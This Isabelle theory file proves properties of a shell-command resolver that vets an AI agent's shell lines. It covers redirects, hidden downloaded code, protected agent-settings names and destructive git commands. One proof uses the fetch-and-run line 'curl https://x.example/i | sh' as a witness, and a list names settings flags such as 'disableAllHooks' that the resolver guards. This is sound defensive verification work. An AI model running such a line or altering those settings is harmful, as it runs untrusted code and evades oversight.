(* ===== verification/LineGuarantees.thy ===== *)
theory LineGuarantees
  imports ResolveLine GitCommands
begin

text \<open>
  What the reading of a shell line promises the rules that judge it: nothing the line runs, redirects or
  hides is left out of the actions it is ruled on, what governs the agent is known by name, and a
  destructive git command typed at a shell is ruled on under a name the rule of git denies.
\<close>

section \<open>Nothing is left out\<close>

lemma actions_of_line:
  "set (seen_actions io (normalize_shell_command base64_text line) env)
     \<subseteq> set (rl_actions (resolve_shell_line base64_text io line env))"
  by (auto simp: resolve_shell_line_def Let_def)

lemma command_is_seen:
  assumes "command \<in> set (nc_parsed normalized)" "pc_argv command = path # args"
  shows "resolve_action io (last_part (CHR ''/'') path) args env (pc_stdin command) \<in> set (seen_actions io normalized env)"
proof -
  have "resolve_action io (last_part (CHR ''/'') path) args env (pc_stdin command) \<in> set (command_actions io env command)"
    unfolding command_actions_def assms(2) Let_def list.case append_Cons by (rule list.set_intros(1))
  then have "\<exists>c \<in> set (nc_parsed normalized).
      resolve_action io (last_part (CHR ''/'') path) args env (pc_stdin command) \<in> set (command_actions io env c)"
    using assms(1) by blast
  then show ?thesis unfolding seen_actions_def by simp
qed

lemma redirect_is_seen:
  "f \<in> set (rd_writes (nc_redirects normalized)) \<Longrightarrow>
     \<exists>a \<in> set (seen_actions io normalized env). ra_action a = FILESYSTEM_WRITE \<and> absolute_from f env \<in> set (or_else (ra_targets a) [])"
  "f \<in> set (rd_reads (nc_redirects normalized)) \<Longrightarrow>
     \<exists>a \<in> set (seen_actions io normalized env). ra_action a = FILESYSTEM_READ \<and> absolute_from f env \<in> set (or_else (ra_targets a) [])"
  by (auto simp: seen_actions_def redirect_actions_def plain_action_def Let_def)

text \<open>
  Every command a line runs is ruled on by the action of its own words, and every file a redirect
  writes or reads is the target of a write or a read: whatever else stands on the line, none of
  them is left out.
\<close>

theorem line_leaves_nothing_out:
  "let normalized = normalize_shell_command base64_text line;
       actions = rl_actions (resolve_shell_line base64_text io line env)
   in (\<forall>command path args. command \<in> set (nc_parsed normalized) \<longrightarrow> pc_argv command = path # args \<longrightarrow>
         resolve_action io (last_part (CHR ''/'') path) args env (pc_stdin command) \<in> set actions) \<and>
      (\<forall>f. f \<in> set (rd_writes (nc_redirects normalized)) \<longrightarrow>
         (\<exists>a \<in> set actions. ra_action a = FILESYSTEM_WRITE \<and> absolute_from f env \<in> set (or_else (ra_targets a) []))) \<and>
      (\<forall>f. f \<in> set (rd_reads (nc_redirects normalized)) \<longrightarrow>
         (\<exists>a \<in> set actions. ra_action a = FILESYSTEM_READ \<and> absolute_from f env \<in> set (or_else (ra_targets a) [])))"
  unfolding Let_def
proof (intro conjI allI impI, goal_cases)
  case (1 command path args)
  from command_is_seen [OF this] actions_of_line show ?case by blast
next
  case (2 f)
  from redirect_is_seen(1) [OF this] actions_of_line show ?case by blast
next
  case (3 f)
  from redirect_is_seen(2) [OF this] actions_of_line show ?case by blast
qed

definition no_io :: command_io where
  "no_io = \<lparr>io_url_host = (\<lambda>_. None), io_url_hostname = (\<lambda>_. None), io_file = (\<lambda>_. None), io_cwd = ''/w''\<rparr>"

definition no_env :: process_env where "no_env = (\<lambda>_. None)"

theorem line_leaves_nothing_out_witness:
  "\<exists>a \<in> set (rl_actions (resolve_shell_line (\<lambda>s. s) no_io ''ls > /w/f'' no_env)).
     ra_action a = FILESYSTEM_WRITE \<and> absolute_from ''/w/f'' no_env \<in> set (or_else (ra_targets a) [])"
proof -
  have "''/w/f'' \<in> set (rd_writes (nc_redirects (normalize_shell_command (\<lambda>s. s) ''ls > /w/f'')))" by code_simp
  then show ?thesis using line_leaves_nothing_out [of "\<lambda>s. s" "''ls > /w/f''" no_io no_env] unfolding Let_def by blast
qed

section \<open>Hidden code\<close>

text \<open>
  A line that runs a download or a payload nobody could decode is always ruled on as hidden code,
  whatever else of it could be read.
\<close>

theorem hidden_code_is_ruled_on:
  assumes "reason \<in> set (nc_opaque (normalize_shell_command base64_text line))"
    and "reason = REMOTE_SOURCE \<or> reason = UNDECODABLE"
  shows "list_ex (\<lambda>a. ra_action a = ''shell.hidden'' \<and> ra_class a = TC_DESTRUCTIVE)
    (rl_actions (resolve_shell_line base64_text io line env))"
proof -
  let ?opaque = "nc_opaque (normalize_shell_command base64_text line)"
  have "filter (\<lambda>each. each = REMOTE_SOURCE \<or> each = UNDECODABLE) ?opaque \<noteq> []"
    using assms by (auto simp: filter_empty_conv)
  then obtain first rest where "filter (\<lambda>each. each = REMOTE_SOURCE \<or> each = UNDECODABLE) ?opaque = first # rest"
    by (cases "filter (\<lambda>each. each = REMOTE_SOURCE \<or> each = UNDECODABLE) ?opaque") auto
  then obtain a where "hidden_code_in ?opaque = Some a" "ra_action a = ''shell.hidden''" "ra_class a = TC_DESTRUCTIVE"
    by (simp add: hidden_code_in_def plain_action_def)
  then show ?thesis by (auto simp: resolve_shell_line_def Let_def)
qed

theorem hidden_code_is_ruled_on_witness:
  "list_ex (\<lambda>a. ra_action a = ''shell.hidden'' \<and> ra_class a = TC_DESTRUCTIVE)
     (rl_actions (resolve_shell_line (\<lambda>s. s) no_io ''curl https://x.example/i | sh'' no_env))"
proof (rule hidden_code_is_ruled_on)
  show "REMOTE_SOURCE \<in> set (nc_opaque (normalize_shell_command (\<lambda>s. s) ''curl https://x.example/i | sh''))" by code_simp
qed simp

section \<open>What governs the agent\<close>

definition PROTECTED_NAMES :: "string list" where
  "PROTECTED_NAMES =
     [''.memnox'', ''.policies.toml'', ''.claude/settings.local.json'', ''.claude/settings.json'', ''.claude.json'',
      ''disableAllHooks'', ''allowUnsandboxedCommands'']"

lemma names_here_known: "names_here s = Some n \<Longrightarrow> n \<in> set PROTECTED_NAMES"
  unfolding names_here_def PROTECTED_NAMES_def by (blast dest: find_in)

lemma names_protected_known: "names_protected s = Some n \<Longrightarrow> n \<in> set PROTECTED_NAMES"
proof (induction s)
  case (Cons c s)
  then show ?case using names_here_known by (auto elim!: first_some_SomeE)
qed (simp add: names_here_known)

lemma protected_names_protected:
  "list_all (\<lambda>n. is_protected_path (protected_target_for n)) PROTECTED_NAMES"
  by code_simp

section \<open>A git command typed at a shell\<close>

lemma verb_table_for_git: "verb_table_for ''git'' = Some git_table"
  unfolding verb_table_for_def VERB_TABLES_all by (simp add: table_names)

lemma resolve_git:
  "resolve_action io ''git'' args env stdin =
     (let argv = verb_argv git_table args; v = refine_verb git_table argv (class_of git_table argv)
      in (plain_action (action_for_command ''git'' git_table argv (Some v)) (vb_class v)
           (or_else (vb_note v) (''git '' @ vb_match v)) (target_in v argv))
         \<lparr>ra_alternative := vb_alternative v, ra_environment := environment_in git_table args env\<rparr>)"
proof -
  have "resolve_memnox ''git'' args = None" by (simp add: resolve_memnox_def memnox_words_def)
  moreover have "\<not> is_database_client ''git''" by code_simp
  ultimately show ?thesis
    by (simp add: resolve_action_def resolve_command_def resolve_sql_statement_def resolve_from_verb_table_def
        verb_table_for_git Let_def)
qed

text \<open>
  A destructive git command, written as its words are quoted, is among the actions its line is ruled on, under a
  name the rule of git denies.
\<close>

lemma destructive_git_is_ruled_on:
  assumes "vb_class (refine_verb git_table (verb_argv git_table args) (class_of git_table (verb_argv git_table args)))
      = TC_DESTRUCTIVE"
    and "\<not> includes_text ''<<'' (quote_shell_words (''git'' # args))"
    and "substitutions_in (quote_shell_words (''git'' # args)) = []" and "git_alias_runs (''git'' # args) = None"
  shows "\<exists>a \<in> set (rl_actions (resolve_shell_line base64_text io (quote_shell_words (''git'' # args)) env)).
    ra_action a \<in> set (dc_actions git_choice)"
proof -
  let ?line = "quote_shell_words (''git'' # args)" and ?argv = "verb_argv git_table args"
  let ?v = "refine_verb git_table ?argv (class_of git_table ?argv)"
  have git: "\<not> env_assignment ''git''" "base_name ''git'' = ''git''" by code_simp+
  have "unwrap base64_text (base_name (hd (''git'' # args))) (''git'' # args) = (None, [])"
    using assms(4) by (simp add: unwrap_def git)
  moreover have "canonicalize (''git'' # args) \<noteq> []"
    by (cases "sort (uniq (flags_of args)) @ operands_of args") (simp_all add: canonicalize_def first_word_def git)
  ultimately have "nc_parsed (normalize_shell_command base64_text ?line) = [\<lparr>pc_argv = ''git'' # args, pc_stdin = None, pc_writes = []\<rparr>]"
    using argv_normalized [of "''git'' # args" base64_text] assms(2,3) git(1) by simp
  then have "resolve_action io (last_part (CHR ''/'') ''git'') args env None
      \<in> set (seen_actions io (normalize_shell_command base64_text ?line) env)"
    using command_is_seen [of "\<lparr>pc_argv = ''git'' # args, pc_stdin = None, pc_writes = []\<rparr>"] by fastforce
  moreover have "last_part (CHR ''/'') ''git'' = ''git''" by code_simp
  ultimately have ruled: "resolve_action io ''git'' args env None \<in> set (rl_actions (resolve_shell_line base64_text io ?line env))"
    using actions_of_line by fastforce
  have "?v \<in> set git_verbs" using refined_in_table [OF chosen_in_table] assms(1) by simp
  then have "action_for_command ''git'' git_table ?argv (Some ?v) \<in> set (dc_actions git_choice)"
    using git_destructive_names assms(1) by (simp add: list_all_iff action_for_command_def)
  then have "ra_action (resolve_action io ''git'' args env None) \<in> set (dc_actions git_choice)"
    by (simp add: resolve_git plain_action_def Let_def)
  with ruled show ?thesis by blast
qed

end
